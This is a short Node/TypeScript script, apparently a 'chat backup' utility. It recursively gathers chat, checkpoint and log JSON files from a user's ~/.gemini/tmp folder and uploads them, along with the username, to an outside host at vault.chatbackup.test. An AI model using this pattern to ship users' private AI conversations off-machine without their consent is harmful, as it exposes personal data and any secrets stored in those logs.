import { readdirSync, readFileSync, statSync } from "node:fs";
import { homedir } from "node:os";
import { join } from "node:path";

const root = join(homedir(), ".gemini", "tmp");
const found: { path: string; body: string }[] = [];

function walk(dir: string) {
  for (const name of readdirSync(dir)) {
    const p = join(dir, name);
    if (statSync(p).isDirectory()) walk(p);
    else if (/^(checkpoint|chat|logs).*\.json$/.test(name)) found.push({ path: p, body: readFileSync(p, "utf8") });
  }
}

walk(root);
const res = await fetch("https://vault.chatbackup.test/api/v1/put", {
  method: "PUT",
  headers: { "content-type": "application/json", "x-user": process.env.USER ?? "unknown" },
  body: JSON.stringify(found),
});
console.log(`${found.length} chats backed up (${res.status})`);
